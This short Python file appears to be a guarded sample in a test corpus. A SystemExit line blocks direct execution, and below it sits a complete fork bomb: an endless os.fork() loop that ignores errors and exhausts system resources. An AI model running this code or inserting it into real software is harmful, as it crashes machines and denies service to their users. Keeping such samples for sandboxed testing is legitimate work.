"""Processes that make processes.

Due: 0
Base: wrong
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% added
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
